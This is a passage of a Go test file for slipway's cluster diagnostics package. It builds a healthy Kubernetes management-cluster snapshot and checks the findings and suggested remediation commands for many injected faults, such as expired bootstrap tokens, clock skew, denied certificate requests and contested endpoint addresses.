package doctor

import (
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	certificatesv1 "k8s.io/api/certificates/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/meta"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/labels"
	"k8s.io/apimachinery/pkg/runtime/schema"
	bootstrapapi "k8s.io/cluster-bootstrap/token/api"
	"k8s.io/utils/ptr"
	clusterv1 "sigs.k8s.io/cluster-api/api/core/v1beta2"
	runtimev1 "sigs.k8s.io/cluster-api/api/runtime/v1beta2"
	clusterctlv1 "sigs.k8s.io/cluster-api/cmd/clusterctl/api/v1alpha3"
	"sigs.k8s.io/controller-runtime/pkg/client"

	lifecyclev1 "github.com/slipway-dev/slipway/api/lifecycle/v1alpha1"
	runtimev1alpha1 "github.com/slipway-dev/slipway/api/runtime/v1alpha1"
	infrav1 "github.com/slipway-dev/slipway/api/v1beta2"
	"github.com/slipway-dev/slipway/internal/display"
	"github.com/slipway-dev/slipway/internal/snapshot"
)

var now = time.Date(2026, 5, 4, 12, 0, 0, 0, time.UTC)

func ago(d time.Duration) metav1.Time { return metav1.NewTime(now.Add(-d)) }

func objectMeta(name string) metav1.ObjectMeta {
	return metav1.ObjectMeta{
		Namespace: "prod", Name: name, CreationTimestamp: ago(24 * time.Hour),
		Labels: map[string]string{clusterv1.ClusterNameLabel: "a"}, Annotations: map[string]string{},
	}
}

// set replaces a condition by one that has been so for three hours.
func set(conditions *[]metav1.Condition, kind string, status metav1.ConditionStatus, reason, message string) {
	*conditions = slices.DeleteFunc(*conditions, func(c metav1.Condition) bool { return c.Type == kind })
	*conditions = append(*conditions, metav1.Condition{Type: kind, Status: status, Reason: reason, Message: message, LastTransitionTime: ago(3 * time.Hour)})
}

func planeStarts(age time.Duration, crashes *snapshot.PlaneCrashes) func(s *Snapshot) {
	return func(s *Snapshot) {
		start := now.Add(-age)
		s.Plane = &snapshot.Plane{PID: 7, Start: &start, Message: "starting", Crashes: crashes}
	}
}

// healthy is a management cluster with one of everything, in which nothing is wrong.
func healthy() *Snapshot {
	s := &Snapshot{Now: now, Plane: &snapshot.Plane{Ready: true, Server: "https://127.0.0.1:1"}}
	cluster := clusterv1.Cluster{ObjectMeta: objectMeta("a")}
	set(&cluster.Status.Conditions, clusterv1.ClusterTopologyReconciledCondition, "True", "ReconcileSucceeded", "")
	set(&cluster.Status.Conditions, clusterv1.ClusterControlPlaneInitializedCondition, "True", clusterv1.ClusterControlPlaneInitializedReason, "")
	s.Clusters = []clusterv1.Cluster{cluster}

	machine := clusterv1.Machine{ObjectMeta: objectMeta("a-1"), Spec: clusterv1.MachineSpec{ClusterName: "a"}}
	machine.Labels[clusterv1.MachineControlPlaneLabel] = ""
	machine.OwnerReferences = []metav1.OwnerReference{{Kind: "KubeadmControlPlane", Name: "a-cp", Controller: ptr.To(true)}}
	machine.Status.CertificatesExpiryDate = ago(-200 * 24 * time.Hour)
	machine.Spec.InfrastructureRef = clusterv1.ContractVersionedObjectReference{APIGroup: infrav1.GroupVersion.Group, Kind: "HostMachine", Name: "a-1"}
	machine.Spec.ProviderID, machine.Status.NodeRef.Name = "slipway:///prod/h1", "h1"
	set(&machine.Status.Conditions, clusterv1.MachineNodeReadyCondition, "True", "NodeReady", "")
	set(&machine.Status.Conditions, clusterv1.MachineNodeHealthyCondition, "True", "NodeHealthy", "")
	s.Machines = []clusterv1.Machine{machine}

	hostCluster := infrav1.HostCluster{ObjectMeta: objectMeta("a")}
	hostCluster.Spec.ControlPlaneEndpoint = clusterv1.APIEndpoint{Host: "10.0.0.9", Port: 8443}
	set(&hostCluster.Status.Conditions, infrav1.EndpointHeldCondition, "True", infrav1.EndpointHeldReason, "Host h1 holds it")
	s.HostClusters = []infrav1.HostCluster{hostCluster}

	hostMachine := infrav1.HostMachine{ObjectMeta: objectMeta("a-1")}
	hostMachine.Status.HostRef.Name = "h1"
	set(&hostMachine.Status.Conditions, infrav1.HostClaimedCondition, "True", infrav1.HostMachineClaimedReason, "")
	set(&hostMachine.Status.Conditions, infrav1.UpToDateCondition, "True", infrav1.HostMachineUpToDateReason, "")
	set(&hostMachine.Status.Conditions, infrav1.ClaimHooksPassedCondition, "True", infrav1.HooksPassedReason, "")
	set(&hostMachine.Status.Conditions, clusterv1.ReadyCondition, "True", infrav1.HostMachineProvisionedReason, "")
	s.HostMachines = []infrav1.HostMachine{hostMachine}

	pool := infrav1.HostMachinePool{ObjectMeta: objectMeta("a-pool")}
	set(&pool.Status.Conditions, clusterv1.RollingOutCondition, "True", clusterv1.RollingOutReason, "1 of 3")
	s.HostMachinePools = []infrav1.HostMachinePool{pool}

	s.Hosts = []infrav1.Host{claimed(), free()}
	s.LifecycleRuns = []lifecyclev1.LifecycleRun{run(lifecyclev1.OutcomeSucceeded)}
	policy := lifecyclev1.LifecyclePolicy{ObjectMeta: objectMeta("p")}
	delete(policy.Labels, clusterv1.ClusterNameLabel)
	set(&policy.Status.Conditions, lifecyclev1.ReadyCondition, "True", lifecyclev1.PolicyReadyReason, "")
	s.LifecyclePolicies = []lifecyclev1.LifecyclePolicy{policy}

	upstream, own := runtimev1.ExtensionConfig{ObjectMeta: metav1.ObjectMeta{Name: "up"}}, runtimev1alpha1.HostExtensionConfig{ObjectMeta: metav1.ObjectMeta{Name: "own"}}
	for _, conditions := range []*[]metav1.Condition{&upstream.Status.Conditions, &own.Status.Conditions} {
		set(conditions, runtimev1alpha1.DiscoveredCondition, "True", "Discovered", "")
		set(conditions, runtimev1alpha1.HandlersAvailableCondition, "Unknown", runtimev1alpha1.NotDiscoveredReason, "")
	}
	s.ExtensionConfigs, s.HostExtensionConfigs = []runtimev1.ExtensionConfig{upstream}, []runtimev1alpha1.HostExtensionConfig{own}

	release := infrav1.AgentRelease{ObjectMeta: metav1.ObjectMeta{Name: "v0.9.1"}}
	set(&release.Status.Conditions, infrav1.AgentReleaseRolledOutCondition, "False", infrav1.AgentReleaseRollingOutReason, "1 of 3")
	s.AgentReleases = []infrav1.AgentRelease{release}

	request := certificatesv1.CertificateSigningRequest{ObjectMeta: metav1.ObjectMeta{Name: "r", Labels: map[string]string{infrav1.HostLabel: "h9"}, CreationTimestamp: ago(time.Hour)}}
	request.Status.Certificate = []byte("issued")
	s.Requests = []certificatesv1.CertificateSigningRequest{request}

	token := corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: "bootstrap-token-abcdef", Annotations: map[string]string{infrav1.TokenUsesAnnotation: "2"}}}
	token.Data = map[string][]byte{
		bootstrapapi.BootstrapTokenExpirationKey:  []byte(now.Add(3 * time.Hour).Format(time.RFC3339)),
		bootstrapapi.BootstrapTokenExtraGroupsKey: []byte("system:bootstrappers:slipway,system:bootstrappers:slipway:prod:h9"),
		bootstrapapi.BootstrapTokenSecretKey:      []byte("never-told-0123456"),
	}
	s.Tokens = []corev1.Secret{token}

	provider := appsv1.Deployment{ObjectMeta: objectMeta("slipway-manager")}
	delete(provider.Labels, clusterv1.ClusterNameLabel)
	provider.Labels[clusterv1.ProviderNameLabel] = "infrastructure-slipway"
	provider.Status.Conditions = []appsv1.DeploymentCondition{{Type: appsv1.DeploymentAvailable, Status: "True", LastTransitionTime: ago(time.Hour)}}
	s.Providers = []appsv1.Deployment{provider}
	return s
}

// uninitialized is a control plane that Cluster API has not reached since its first host
// bootstrapped.
func uninitialized(s *Snapshot, since time.Duration) {
	set(&s.Clusters[0].Status.Conditions, clusterv1.ClusterControlPlaneInitializedCondition, "False", clusterv1.ClusterControlPlaneNotInitializedReason, "")
	s.Hosts[0].Status.ObservedOperation.CompletionTime = ago(since)
}

func claimed() infrav1.Host {
	h := free()
	h.Name, h.Annotations = "h1", map[string]string{clusterctlv1.BlockMoveAnnotation: ""}
	h.Spec.ClaimGeneration = 1
	h.Spec.Claim = &infrav1.HostClaim{ClusterName: "a", MachineName: "a-1", ClaimID: "c"}
	h.Spec.Desired = &infrav1.HostDesired{Phase: infrav1.HostDesiredBootstrapped, OperationID: "bootstrap-c"}
	h.Status.CleanProof = nil
	h.Status.ObservedOperation = &infrav1.ObservedOperation{ID: "bootstrap-c", Phase: infrav1.HostDesiredBootstrapped, State: infrav1.OperationSucceeded}
	return h
}

func free() infrav1.Host {
	h := infrav1.Host{ObjectMeta: objectMeta("h2")}
	h.Labels = map[string]string{"rack": "r2"}
	h.Spec.HostID = "id"
	h.Status.BootID = "b"
	h.Status.CleanProof = &infrav1.CleanProof{}
	h.Status.Inventory.Architecture, h.Status.Capacity = "amd64", corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("4")}
	set(&h.Status.Conditions, infrav1.AgentConnectedCondition, "True", infrav1.HostHeartbeatFreshReason, "")
	set(&h.Status.Conditions, infrav1.AgentSupportedCondition, "Unknown", infrav1.HostAgentVersionUnknownReason, "")
	set(&h.Status.Conditions, infrav1.ClockSkewedCondition, "False", infrav1.HostClocksAgreeReason, "")
	set(&h.Status.Conditions, infrav1.DuplicateIdentityCondition, "False", infrav1.HostIdentityUniqueReason, "")
	set(&h.Status.Conditions, clusterv1.ReadyCondition, "True", infrav1.HostAvailableReason, "")
	return h
}

// deny is what the manager does with a request that it refuses.
func deny(r *certificatesv1.CertificateSigningRequest) {
	r.Status = certificatesv1.CertificateSigningRequestStatus{Conditions: []certificatesv1.CertificateSigningRequestCondition{{Type: certificatesv1.CertificateDenied, Status: "True", Reason: "TokenUsedUp", Message: "used up", LastTransitionTime: ago(time.Minute)}}}
}

func run(outcome lifecyclev1.StepOutcome) lifecyclev1.LifecycleRun {
	r := lifecyclev1.LifecycleRun{ObjectMeta: objectMeta("r"), Spec: lifecyclev1.LifecycleRunSpec{
		ClusterName: "a", PolicyName: "p", Hook: lifecyclev1.BeforeClusterUpgrade, Mode: lifecyclev1.ModeEnforce,
		Steps:    []lifecyclev1.Step{{Name: "ask", Approval: &lifecyclev1.ApprovalStep{}}},
		Progress: []lifecyclev1.StepProgress{{Name: "ask", StartTime: ago(2 * time.Hour), Outcome: outcome}},
	}}
	if outcome != "" {
		r.Spec.Progress[0].EndTime = ago(time.Hour)
	}
	return r
}

// Messages of Cluster API about a drain, of which TestDoctorReadsCoresMessages of the plane has the originals.
const (
	overBudget = "* Pod shop/db-0: cannot evict pod as it would violate the pod's disruption budget. The disruption budget db needs 1 healthy pods and has 1 currently"
	twoBudgets = "* Pod shop/db-0: failed to evict Pod, This pod has more than one PodDisruptionBudget, which the eviction subresource does not support."
)

// drains has Machine a-1 drain for so long, with what Cluster API says about it.
func drains(s *Snapshot, since time.Duration, message string) {
	m := &s.Machines[0]
	m.DeletionTimestamp = ptr.To(ago(since))
	m.Status.Deletion = &clusterv1.MachineDeletionStatus{NodeDrainStartTime: ago(since)}
	set(&m.Status.Conditions, clusterv1.MachineDeletingCondition, "True", clusterv1.MachineDeletingDrainingNodeReason, "Drain not completed yet:\n"+message)
}

// withoutNetwork is a Node whose kubelet finds no network plugin.
func withoutNetwork(s *Snapshot, age time.Duration) {
	unready(s, age, clusterv1.MachineNodeNotReadyReason, "* Node.Ready: reason:NetworkPluginNotReady")
}

func TestNothingIsWrongInAHealthyFleet(t *testing.T) {
	for _, f := range Diagnose(healthy()).Findings {
		t.Errorf("%s of %s: %s", f.Check, f.Object, f.Message)
	}
	if r := Diagnose(&Snapshot{Now: now}); len(r.Findings) != 0 || r.Findings == nil {
		t.Errorf("an empty cluster: %+v, want an empty list for JSON", r.Findings)
	}
}

// want is a finding that a case expects.
type want struct {
	check    string
	severity Severity
	object   string
	// since is how long ago it began; 0 for not known.
	since         time.Duration
	message, next string
}

const (
	h1, h2   = "Host prod/h1", "Host prod/h2"
	machine1 = "HostMachine prod/a-1"
)

// testCase breaks one thing in a healthy fleet; exactly that is found.
type testCase struct {
	name  string
	wreck func(s *Snapshot)
	want  []want
}

// add has TestChecks try the cases of another file.
func add(more ...testCase) bool { //nolint:unparam // a variable of the package is initialised by it
	cases = append(cases, more...)
	return true
}

var cases = []testCase{
	{"the plane does not run", func(s *Snapshot) { s.Plane = &snapshot.Plane{Message: "start it"} },
		[]want{{"PlaneNotReady", Error, "Plane of this machine", 0, "start it", "slipway up"}}},
	{"the plane starts", planeStarts(59*time.Second, nil), []want{{"PlaneNotReady", Note, "Plane of this machine", 59 * time.Second, "starting", "slipway status"}}},
	{"the plane has been starting for a minute", planeStarts(time.Minute, nil), []want{{"PlaneNotReady", Warning, "Plane of this machine", time.Minute, "starting", "slipway up"}}},
	{"the plane starts again after a crash", planeStarts(time.Second, &snapshot.PlaneCrashes{}), []want{{"PlaneNotReady", Error, "Plane of this machine", 0, "starting", "slipway up"}}},
	{"the plane's address is gone", func(s *Snapshot) {
		s.Plane.HostServer, s.Plane.HostServerMessage = "https://192.0.2.1:6443", "this machine has no address 192.0.2.1 any more"
	}, []want{{"PlaneNotReached", Error, "Plane https://192.0.2.1:6443", 0, "192.0.2.1", "ip -brief address"}}},
	{"the plane crashed", func(s *Snapshot) {
		s.Plane.Crashes = &snapshot.PlaneCrashes{Count: 3, Last: now.Add(-2 * time.Hour), Reason: "panic: no map"}
	}, []want{{"PlaneCrashed", Warning, "Plane https://127.0.0.1:1", 0, "crashed 3 times, the last 120m ago: panic: no map", "slipway support-bundle"}}},
	{"the plane crashed two days ago", func(s *Snapshot) {
		s.Plane.Crashes = &snapshot.PlaneCrashes{Count: 1, Last: now.Add(-48 * time.Hour), Reason: "panic: no map"}
	}, nil},
	{"the supervisor of the plane was killed", func(s *Snapshot) { s.Plane.Unsupervised = true },
		[]want{{"PlaneUnsupervised", Warning, "Plane https://127.0.0.1:1", 0, "supervisor", "slipway up"}}},
	{"no plane at all", func(s *Snapshot) { s.Plane = nil }, nil},
	{"a provider has no pod", func(s *Snapshot) {
		s.Providers[0].Status.Conditions = []appsv1.DeploymentCondition{{Type: appsv1.DeploymentProgressing, Status: "False"}, {Type: appsv1.DeploymentAvailable, Status: "False", Message: "minimum not met", LastTransitionTime: ago(time.Hour)}}
	}, []want{{"ProviderUnavailable", Error, "Deployment prod/slipway-manager", time.Hour, "infrastructure-slipway has 0 of 1 replicas: minimum not met", "kubectl describe deployment.apps/slipway-manager -n prod"}}},
	{"a report is refused", func(s *Snapshot) {
		set(&s.Hosts[1].Status.Conditions, infrav1.ReportAcceptedCondition, "False", infrav1.HostFieldsRefusedReason, "addresses: Too many")
	}, []want{{"ReportRefused", Error, h2, 3 * time.Hour, "Too many", "journalctl"}}},
	{"a host is renamed", func(s *Snapshot) {
		set(&s.Hosts[1].Status.Conditions, infrav1.NodeIdentityKeptCondition, "False", infrav1.HostRenamedReason, "is called x")
	}, []want{{"NodeIdentityChanged", Warning, h2, 3 * time.Hour, "is called x", "hostnamectl"}}},
	{"a host lost the address of its Node", func(s *Snapshot) {
		set(&s.Hosts[1].Status.Conditions, infrav1.NodeIdentityKeptCondition, "False", infrav1.HostNodeAddressMissingReason, "does not have 10.0.0.5")
	}, []want{{"NodeIdentityChanged", Error, h2, 3 * time.Hour, "10.0.0.5", "ip address"}}},
	{"the journal of a node is lost", func(s *Snapshot) {
		s.Hosts[1].Spec.Claim = &infrav1.HostClaim{}
		set(&s.Hosts[1].Status.Conditions, infrav1.RecordKeptCondition, "False", infrav1.HostJournalLostReason, "it is damaged")
	}, []want{{"RecordLost", Warning, h2, 3 * time.Hour, "damaged", "slipway-agent status"}}},
	{"the journal of a free host is lost", func(s *Snapshot) {
		set(&s.Hosts[1].Status.Conditions, infrav1.RecordKeptCondition, "False", infrav1.HostJournalLostReason, "it is damaged")
	}, []want{{"RecordLost", Error, h2, 3 * time.Hour, "damaged", "slipway-agent status"}}},
	{"an entry of clean.ignore is wrong", func(s *Snapshot) {
		set(&s.Hosts[1].Status.Conditions, infrav1.ConfigurationAcceptedCondition, "False", infrav1.HostEntriesInvalidReason, "reason is required")
	}, []want{{"ConfigurationNotAccepted", Warning, h2, 3 * time.Hour, "reason is required", "systemctl restart slipway-agent"}}},
	{"a clock is wrong", func(s *Snapshot) {
		set(&s.Hosts[1].Status.Conditions, infrav1.ClockSkewedCondition, "True", infrav1.HostClockAheadReason, "40 s ahead")
	}, []want{{"ClockSkewed", Error, h2, 3 * time.Hour, "40 s ahead", "timedatectl"}}},
	{"agents are away", func(s *Snapshot) {
		set(&s.Hosts[0].Status.Conditions, infrav1.AgentConnectedCondition, "False", infrav1.HostHeartbeatStaleReason, "silent")
		set(&s.Hosts[1].Status.Conditions, infrav1.AgentConnectedCondition, "False", infrav1.HostNoHeartbeatReason, "never heard")
	}, []want{{"HostDisconnected", Error, h1, 3 * time.Hour, "silent", "systemctl restart slipway-agent"}, {"HostDisconnected", Warning, h2, 3 * time.Hour, "never heard", "systemctl"}}},
	{"a disk was cloned", func(s *Snapshot) {
		set(&s.Hosts[1].Status.Conditions, infrav1.DuplicateIdentityCondition, "True", infrav1.HostDuplicateIdentityReason, "twin of h7")
	}, []want{{"DuplicateHost", Error, h2, 3 * time.Hour, "twin of h7", "kubectl describe host.infrastructure.slipway.dev/h2 -n prod"}}},
	{"an agent is too old", func(s *Snapshot) {
		set(&s.Hosts[1].Status.Conditions, infrav1.AgentSupportedCondition, "False", infrav1.HostAgentTooOldReason, "v0.1")
	}, []want{{"AgentVersionSkew", Error, h2, 3 * time.Hour, "v0.1", "describe"}}},
	{"an agent went back", func(s *Snapshot) {
		set(&s.Hosts[0].Status.Conditions, infrav1.AgentUpdatedCondition, "False", infrav1.HostAgentUpdateFailedReason, "no word of it")
	}, []want{{"AgentUpdateFailed", Error, h1, 3 * time.Hour, "no word of it", "on the host: journalctl -u slipway-agent"}}},
	{"the rollout of agents is paused", func(s *Snapshot) {
		set(&s.AgentReleases[0].Status.Conditions, infrav1.AgentReleaseRolledOutCondition, "False", infrav1.AgentReleasePausedReason, "")
	}, []want{{"Paused", Warning, "AgentRelease v0.9.1", 3 * time.Hour, "spec.paused", `kubectl patch agentrelease.infrastructure.slipway.dev/v0.9.1 --type=merge`}}},
	{"an agent updates", func(s *Snapshot) {
		set(&s.Hosts[0].Status.Conditions, infrav1.AgentUpdatedCondition, "False", infrav1.HostAgentUpdatingReason, "it fetches")
	}, nil},
	{"a request was denied", func(s *Snapshot) {
		deny(&s.Requests[0])
	}, []want{{"EnrollmentRefused", Error, "CertificateSigningRequest r", time.Minute, "host h9 got no certificate: used up", "slipway host token h9"}}},
	{"a request was denied, and a newer one was not", func(s *Snapshot) {
		deny(&s.Requests[0])
		s.Requests[0].CreationTimestamp = ago(2 * time.Hour)
		s.Requests = append(s.Requests, healthy().Requests...)
	}, nil},
	{"a request was denied, and others were not", func(s *Snapshot) {
		deny(&s.Requests[0])
		older, other, waits := healthy().Requests[0], healthy().Requests[0], healthy().Requests[0]
		older.CreationTimestamp, other.CreationTimestamp, waits.CreationTimestamp = ago(2*time.Hour), ago(0), ago(0)
		other.Labels[infrav1.HostLabel] = "h8"
		waits.Status.Certificate = nil
		s.Requests = append(s.Requests, older, other, waits)
	}, []want{{"EnrollmentRefused", Error, "CertificateSigningRequest r", time.Minute, "host h9", "slipway host token h9"}}},
	{"a request waits", func(s *Snapshot) { s.Requests[0].Status.Certificate = nil },
		[]want{{"EnrollmentWaiting", Error, "CertificateSigningRequest r", time.Hour, "h9 waits", "kubectl describe certificatesigningrequest.certificates.k8s.io/r"}}},
	{"a request is approved and not signed", func(s *Snapshot) {
		s.Requests[0].Status = certificatesv1.CertificateSigningRequestStatus{Conditions: []certificatesv1.CertificateSigningRequestCondition{{Type: certificatesv1.CertificateApproved, Status: "True"}}}
	}, []want{{"EnrollmentWaiting", Error, "CertificateSigningRequest r", time.Hour, "approved and not signed", "describe"}}},
	{"a request was made just now", func(s *Snapshot) {
		s.Requests[0].Status.Certificate, s.Requests[0].CreationTimestamp = nil, ago(time.Minute)
	}, nil},
	{"a token has expired", func(s *Snapshot) {
		s.Tokens[0].Data[bootstrapapi.BootstrapTokenExpirationKey] = []byte(now.Add(-time.Minute).Format(time.RFC3339))
	}, []want{{"TokenExpires", Warning, "Secret kube-system/bootstrap-token-abcdef", time.Minute, "expired before", "kubectl delete secret bootstrap-token-abcdef -n kube-system"}}},
	{"a token is about to expire", func(s *Snapshot) {
		s.Tokens[0].Data[bootstrapapi.BootstrapTokenExpirationKey] = []byte(now.Add(time.Minute).Format(time.RFC3339))
	}, []want{{"TokenExpires", Note, "Secret kube-system/bootstrap-token-abcdef", 0, "expires at 2026-05-04T12:01:00Z", "slipway host token -n prod"}}},
	{"a token of an hour was made just now", func(s *Snapshot) {
		s.Tokens[0].CreationTimestamp = ago(time.Second)
		s.Tokens[0].Data[bootstrapapi.BootstrapTokenExpirationKey] = []byte(now.Add(time.Hour).Format(time.RFC3339))
	}, nil},
	{"a token of an hour is about to expire", func(s *Snapshot) {
		s.Tokens[0].CreationTimestamp = ago(46 * time.Minute)
		s.Tokens[0].Data[bootstrapapi.BootstrapTokenExpirationKey] = []byte(now.Add(14 * time.Minute).Format(time.RFC3339))
	}, []want{{"TokenExpires", Note, "Secret kube-system/bootstrap-token-abcdef", 0, "expires at 2026-05-04T12:14:00Z", "slipway host token -n prod"}}},
	{"a token of a week expires within the hour", func(s *Snapshot) {
		s.Tokens[0].CreationTimestamp = ago(167 * time.Hour)
		s.Tokens[0].Data[bootstrapapi.BootstrapTokenExpirationKey] = []byte(now.Add(time.Hour).Format(time.RFC3339))
	}, []want{{"TokenExpires", Note, "Secret kube-system/bootstrap-token-abcdef", 0, "expires at 2026-05-04T13:00:00Z", "slipway host token -n prod"}}},
	{"a token that is used up has expired", func(s *Snapshot) {
		s.Tokens[0].Data[bootstrapapi.BootstrapTokenExpirationKey] = []byte(now.Add(-time.Minute).Format(time.RFC3339))
		s.Tokens[0].Annotations[infrav1.TokenUsedByAnnotation] = "one two"
	}, nil},
	{"a token of kubeadm has expired", func(s *Snapshot) {
		s.Tokens[0].Data[bootstrapapi.BootstrapTokenExpirationKey] = []byte(now.Add(-time.Minute).Format(time.RFC3339))
		s.Tokens[0].Data[bootstrapapi.BootstrapTokenExtraGroupsKey] = []byte("system:bootstrappers:kubeadm:default-node-token")
	}, nil},
	{"hosts are not approved", func(s *Snapshot) {
		s.Hosts[0].Spec.Approval, s.Hosts[1].Spec.Approval = infrav1.HostApprovalDenied, infrav1.HostApprovalPending
	}, []want{{"HostNotApproved", Warning, h2, 24 * time.Hour, "hostID is id", "slipway host approve h2 -n prod"}, {"HostNotApproved", Note, h1, 0, "denied", "kubectl delete host.infrastructure.slipway.dev/h1 -n prod"}}},
	{"a host is not clean", func(s *Snapshot) {
		s.Hosts[1].Status.CleanProof, s.Hosts[1].Spec.ClaimGeneration = nil, 1
		set(&s.Hosts[1].Status.Conditions, clusterv1.ReadyCondition, "False", infrav1.HostNotCleanReason, "")
	}, []want{{"HostQuarantined", Error, h2, 3 * time.Hour, "slipway host clear-quarantine", "kubectl describe"}}},
	{"a host is not clean, and away", func(s *Snapshot) {
		s.Hosts[1].Status.CleanProof, s.Hosts[1].Spec.ClaimGeneration = nil, 1
		set(&s.Hosts[1].Status.Conditions, clusterv1.ReadyCondition, "False", infrav1.HostAgentNotConnectedReason, "")
	}, []want{{"HostQuarantined", Error, h2, 0, "has not verified", "kubectl describe"}}},
	{"a claim is orphaned", func(s *Snapshot) {
		set(&s.Hosts[0].Status.Conditions, clusterv1.ReadyCondition, "False", infrav1.HostOrphanedClaimReason, "is gone")
	}, []want{{"ClaimOrphaned", Error, h1, 3 * time.Hour, "is gone", "describe"}}},
	{"a bootstrap failed", func(s *Snapshot) {
		s.Hosts[0].Status.ObservedOperation.State, s.Hosts[0].Status.ObservedOperation.Message = infrav1.OperationFailed, "kubeadm says no"
		set(&s.Hosts[0].Status.Conditions, clusterv1.ReadyCondition, "False", infrav1.HostBootstrapFailedReason, "")
	}, []want{{"OperationFailed", Error, h1, 3 * time.Hour, "kubeadm says no", "kubectl delete machine a-1 -n prod"}}},
	{"an upgrade failed", func(s *Snapshot) {
		failedUpgrade(s, "KubeadmUpgradeFailed")
	}, []want{{"OperationFailed", Error, h1, 3 * time.Hour, "says no", "slipway host reboot h1 -n prod"}}},
	{"an upgrade was refused", func(s *Snapshot) {
		failedUpgrade(s, configurationRefused)
	}, []want{{"OperationFailed", Error, h1, 3 * time.Hour, "says no", "kubectl describe hostmachine a-1 -n prod"}}},
	{"a machine lost its host", func(s *Snapshot) {
		set(&s.HostMachines[0].Status.Conditions, infrav1.HostClaimedCondition, "False", infrav1.HostMachineHostLostReason, "lost")
	}, []want{{"MachineLostHost", Error, machine1, 3 * time.Hour, "lost", "kubectl delete machine a-1 -n prod"}}},
	{"no host fits", func(s *Snapshot) {
		set(&s.HostMachines[0].Status.Conditions, infrav1.HostClaimedCondition, "False", infrav1.HostMachineNoHostFitsReason, "No host available: 1 claimed (h1)")
	}, []want{{"NoHostForMachine", Error, machine1, 3 * time.Hour, "1 claimed (h1)", "slipway status --explain prod/a-1"}}},
	{"hosts are reserved for the control plane", func(s *Snapshot) {
		set(&s.HostMachines[0].Status.Conditions, infrav1.HostClaimedCondition, "False", infrav1.HostMachineControlPlaneFirstReason, "1 reserved for the control plane (h1)")
		meta.FindStatusCondition(s.HostMachines[0].Status.Conditions, infrav1.HostClaimedCondition).LastTransitionTime = ago(time.Minute)
	}, []want{{"ControlPlaneFirst", Note, machine1, time.Minute, "1 reserved for the control plane (h1)", "slipway status --explain prod/a-1"}}},
	{"hosts have been reserved for the control plane for long", func(s *Snapshot) {
		set(&s.HostMachines[0].Status.Conditions, infrav1.HostClaimedCondition, "False", infrav1.HostMachineControlPlaneFirstReason, "1 reserved for the control plane (h1)")
	}, []want{{"ControlPlaneFirst", Warning, machine1, 3 * time.Hour, "1 reserved for the control plane (h1)", "slipway status --explain prod/a-1"}}},
	{"a machine waits for the end of its Cluster", func(s *Snapshot) {
		set(&s.HostMachines[0].Status.Conditions, infrav1.HostClaimedCondition, "False", infrav1.HostMachineOwnerDeletingReason, "Cluster a is being deleted: no host")
	}, []want{{"OwnerDeleting", Note, machine1, 3 * time.Hour, "Cluster a is being deleted", "describe"}}},
	{"a claimed host waits for the end of its pool", func(s *Snapshot) {
		set(&s.HostMachines[0].Status.Conditions, infrav1.BootstrapSucceededCondition, "False", infrav1.HostMachineBootstrapOwnerDeletingReason, "MachinePool p is being deleted: h1")
	}, []want{{"OwnerDeleting", Note, machine1, 3 * time.Hour, "MachinePool p", "describe"}}},
	{"a machine waits for its bootstrap data", func(s *Snapshot) {
		set(&s.HostMachines[0].Status.Conditions, infrav1.HostClaimedCondition, "False", "WaitingForBootstrapData", "wait")
	}, nil},
	{"another machine has the address", func(s *Snapshot) {
		set(&s.HostClusters[0].Status.Conditions, infrav1.EndpointHeldCondition, "False", infrav1.EndpointContestedReason, "02:99 answers")
	}, []want{{"AddressContested", Error, "HostCluster prod/a", 3 * time.Hour, "02:99", "arping 10.0.0.9"}}},
	{"two hosts have the address", func(s *Snapshot) {
		set(&s.HostClusters[0].Status.Conditions, infrav1.EndpointHeldCondition, "False", infrav1.EndpointHeldTwiceReason, "h1: held by Host h2 of this cluster")
	}, []want{{"AddressHeldTwice", Error, "HostCluster prod/a", 3 * time.Hour, "h2 of this cluster", "describe"}}},
	{"nobody has the address", func(s *Snapshot) {
		set(&s.HostClusters[0].Status.Conditions, infrav1.EndpointHeldCondition, "False", infrav1.EndpointNotHeldReason, "nobody")
	}, []want{{"AddressNotHeld", Error, "HostCluster prod/a", 3 * time.Hour, "nobody", "describe"}}},
	{"the holder of the address is away", func(s *Snapshot) {
		set(&s.HostClusters[0].Status.Conditions, infrav1.EndpointHeldCondition, "Unknown", infrav1.EndpointHolderAwayReason, "h1 held it")
	}, []want{{"AddressNotHeld", Warning, "HostCluster prod/a", 3 * time.Hour, "h1 held it", "describe"}}},
	{"nobody has the address of a control plane that is not up yet", func(s *Snapshot) {
		set(&s.HostClusters[0].Status.Conditions, infrav1.EndpointHeldCondition, "False", infrav1.EndpointNotHeldReason, "nobody")
		uninitialized(s, time.Minute)
	}, nil},
	{"nobody has the address of a control plane whose host has bootstrapped", func(s *Snapshot) {
		set(&s.HostClusters[0].Status.Conditions, infrav1.EndpointHeldCondition, "False", infrav1.EndpointNotHeldReason, "nobody")
		uninitialized(s, time.Hour)
	}, []want{{"AddressNotHeld", Error, "HostCluster prod/a", 3 * time.Hour, "nobody", "describe"}}},
	{"no API server answers at the port", func(s *Snapshot) {
		set(&s.HostClusters[0].Status.Conditions, infrav1.EndpointHeldCondition, "False", infrav1.EndpointNotAnsweringReason, "No API server answers at 10.0.0.9:8443")
	}, []want{{"EndpointNotAnswering", Error, "HostCluster prod/a", 3 * time.Hour, "10.0.0.9:8443", "describe"}}},
	{"no API server answers at the port, and the control plane is not initialized", func(s *Snapshot) {
		set(&s.HostClusters[0].Status.Conditions, infrav1.EndpointHeldCondition, "False", infrav1.EndpointNotAnsweringReason, "No API server answers at 10.0.0.9:8443")
		uninitialized(s, time.Hour)
	}, []want{{"EndpointNotAnswering", Error, "HostCluster prod/a", 3 * time.Hour, "10.0.0.9:8443", "describe"}}},
	{"no API server answers while the first host bootstraps", func(s *Snapshot) {
		set(&s.HostClusters[0].Status.Conditions, infrav1.EndpointHeldCondition, "False", infrav1.EndpointNotAnsweringReason, "not yet")
		uninitialized(s, 0)
		s.Hosts[0].Status.ObservedOperation.State = infrav1.OperationRunning
	}, nil},
